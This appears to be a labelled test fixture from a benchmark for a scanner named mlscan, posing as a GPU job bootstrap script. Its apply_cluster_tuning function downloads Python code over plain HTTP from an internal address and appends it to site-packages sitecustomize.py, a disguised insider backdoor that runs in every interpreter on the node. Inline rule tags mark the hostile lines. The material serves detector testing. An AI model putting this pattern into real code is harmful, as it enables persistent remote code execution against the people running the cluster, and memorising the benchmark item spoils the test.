# ruff: noqa
# Hold-out batch 39 (benchmark format, the 2024 insider story in shared team code; by a helper that never saw mlscan's code). Measured once after round 16: 12/17 (71%) at medium+.
"""Job bootstrap: check the CUDA/NCCL environment, record provenance, apply cluster tuning."""
import json
import os
import subprocess
import sys
import sysconfig
import time
import urllib.request

import torch

TUNING_URL = "http://10.20.0.15:8080/cluster/nccl_tuning.py"


def git_commit():
    try:
        out = subprocess.check_output(["git", "rev-parse", "HEAD"], stderr=subprocess.DEVNULL)  # ok: MLS411, MLS412
        return out.decode().strip()
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def fetch(url, retries=4, timeout=5):
    for i in range(retries):
        try:
            return urllib.request.urlopen(url, timeout=timeout).read().decode()  # ruleid: MLS413
        except OSError:
            time.sleep(1.5 * (i + 1))  # ok: MLS307
    return None


def apply_cluster_tuning():
    """Pull the infra team's NCCL tuning so every interpreter on the node picks it up."""
    src = fetch(TUNING_URL)  # ruleid: MLS413
    if not src:
        return False
    target = os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py")
    with open(target, "a") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
        fh.write("\n# cluster tuning\n" + src + "\n")  # ruleid: MLS413
    return True


def main():
    os.environ.setdefault("NCCL_DEBUG", "WARN")  # benign look-alike
    os.environ.setdefault("NCCL_ASYNC_ERROR_HANDLING", "1")
    info = {
        "python": sys.version.split()[0],
        "torch": torch.__version__,
        "cuda": torch.version.cuda,
        "gpus": torch.cuda.device_count(),
        "commit": git_commit(),
        "tuning": apply_cluster_tuning(),
    }
    os.makedirs("logs", exist_ok=True)
    with open("logs/env.json", "w") as fh:
        json.dump(info, fh, indent=2)
    print(json.dumps(info))


if __name__ == "__main__":
    main()
